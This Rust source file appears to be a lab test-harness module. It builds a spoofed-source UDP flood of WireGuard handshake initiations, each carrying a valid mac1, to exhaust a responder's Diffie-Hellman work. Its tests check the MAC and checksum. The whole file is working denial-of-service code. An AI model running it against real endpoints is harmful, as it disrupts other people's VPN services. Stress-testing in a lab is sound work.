//! A flood of WireGuard handshake initiations from addresses that do not exist.
//!
//! Each has a right `mac1`, which takes nothing but the victim's public key, so it is not refused at first sight; what is
//! encrypted in it is noise. A responder that did a Diffie-Hellman for each would do nothing else any more.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use blake2::digest::consts::U16;
use blake2::digest::{Digest, FixedOutput, KeyInit, Mac};
use blake2::{Blake2s256, Blake2sMac};
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with};

use super::over;
use crate::lab::Namespace;

/// Length of a handshake initiation.
const INITIATION: usize = 148;
/// Where `mac1` is in it; `mac2` follows, all zero without a cookie.
const MAC1: usize = 116;
const HEADERS: usize = 28;
const UDP: u8 = 17;
/// Forged sources are in this network, which is for benchmarks (RFC 2544).
const SOURCES: (Ipv4Addr, u32) = (Ipv4Addr::new(198, 18, 0, 0), 0x1_ffff);
/// The network of the forged sources, for a route that leads answers away.
pub const SOURCE_PREFIX: &str = "198.18.0.0/15";

/// What to send.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// The victim, an IPv4 endpoint.
    pub target: SocketAddr,
    /// The victim's public key.
    pub public_key: [u8; 32],
    /// Initiations a second.
    pub rate: u32,
    /// For how long.
    pub duration: Duration,
}

/// Sends from that namespace; returns how many.
pub fn run(from: &Namespace, flood: &Flood) -> Result<u64> {
    from.run(|| send(flood))?
}

fn send(flood: &Flood) -> Result<u64> {
    let IpAddr::V4(target) = flood.target.ip() else { bail!("sources are forged over IPv4 only") };
    let raw = socket_with(AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::RAW));
    let raw = raw.context("a raw socket")?;
    let mut forger = Forger::new(&flood.public_key);
    let start = Instant::now();
    let mut sent = 0;
    while !over(start + flood.duration) {
        let due = (start.elapsed().as_secs_f64() * f64::from(flood.rate)) as u64;
        for _ in sent..due {
            let packet = forger.packet(SocketAddrV4::new(target, flood.target.port()));
            // A full queue loses one, as it would on any way here.
            sendto(&raw, &packet, SendFlags::empty(), &SocketAddrV4::new(target, 0)).ok();
        }
        sent = sent.max(due);
        std::thread::sleep(Duration::from_micros(500));
    }
    Ok(sent)
}

struct Forger {
    mac1: Blake2sMac<U16>,
    state: u64,
}

impl Forger {
    fn new(public_key: &[u8; 32]) -> Self {
        let key = Blake2s256::new().chain_update(b"mac1----").chain_update(public_key).finalize();
        Self { mac1: KeyInit::new_from_slice(&key).expect("32 bytes are a key"), state: 0x9e37_79b9_7f4a_7c15 }
    }

    /// xorshift64*, Vigna 2016.
    fn random(&mut self) -> u64 {
        self.state ^= self.state >> 12;
        self.state ^= self.state << 25;
        self.state ^= self.state >> 27;
        self.state.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// An initiation with a right `mac1`.
    fn initiation(&mut self) -> [u8; INITIATION] {
        let mut message = [0; INITIATION];
        message[0] = 1;
        for chunk in message[4..MAC1].chunks_mut(8) {
            let length = chunk.len();
            chunk.copy_from_slice(&self.random().to_le_bytes()[..length]);
        }
        let mac = Mac::chain_update(self.mac1.clone(), &message[..MAC1]).finalize_fixed();
        message[MAC1..MAC1 + 16].copy_from_slice(&mac);
        message
    }

    /// The same from somewhere, with an IP header whose checksum the kernel fills in.
    fn packet(&mut self, target: SocketAddrV4) -> [u8; HEADERS + INITIATION] {
        let (network, hosts) = SOURCES;
        let source = Ipv4Addr::from_bits(network.to_bits() | self.random() as u32 & hosts);
        let port = 1024 + (self.random() % 60_000) as u16;
        let mut packet = [0; HEADERS + INITIATION];
        (packet[0], packet[8], packet[9]) = (0x45, 64, UDP);
        packet[2..4].copy_from_slice(&((HEADERS + INITIATION) as u16).to_be_bytes());
        packet[12..16].copy_from_slice(&source.octets());
        packet[16..20].copy_from_slice(&target.ip().octets());
        packet[20..22].copy_from_slice(&port.to_be_bytes());
        packet[22..24].copy_from_slice(&target.port().to_be_bytes());
        packet[24..26].copy_from_slice(&((8 + INITIATION) as u16).to_be_bytes());
        packet[HEADERS..].copy_from_slice(&self.initiation());
        let checksum = udp_checksum(&packet);
        packet[26..28].copy_from_slice(&checksum.to_be_bytes());
        packet
    }
}

/// RFC 768, for an even number of bytes behind an IPv4 header of 20.
fn udp_checksum(packet: &[u8]) -> u16 {
    let words = packet[12..].as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_be_bytes(*word)));
    let mut sum: u32 = words.sum::<u32>() + u32::from(UDP) + (packet.len() - 20) as u32;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    if sum == 0xffff { 0xffff } else { !(sum as u16) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mac1_covers_what_stands_before_it_and_depends_on_the_key() {
        let [mut one, mut same, mut other] = [[7; 32], [7; 32], [8; 32]].map(|key| Forger::new(&key));
        let (one, same, other) = (one.initiation(), same.initiation(), other.initiation());
        assert_eq!(one, same);
        assert_eq!(one[..MAC1], other[..MAC1]);
        assert_ne!(one[MAC1..MAC1 + 16], other[MAC1..MAC1 + 16]);
        assert_eq!(one[MAC1 + 16..], [0; 16]);
    }

    #[test]
    fn a_forged_packet_has_a_right_checksum_and_a_source_of_its_own() {
        let mut forger = Forger::new(&[7; 32]);
        let target = SocketAddrV4::new(Ipv4Addr::new(10, 9, 0, 2), 51820);
        let [one, two] = [forger.packet(target), forger.packet(target)];
        assert_ne!(one[12..16], two[12..16]);
        for packet in [one, two] {
            // With the right checksum in its field the sum of all is zero, so the checksum over it is all ones.
            assert_eq!(udp_checksum(&packet), 0xffff);
        }
    }
}
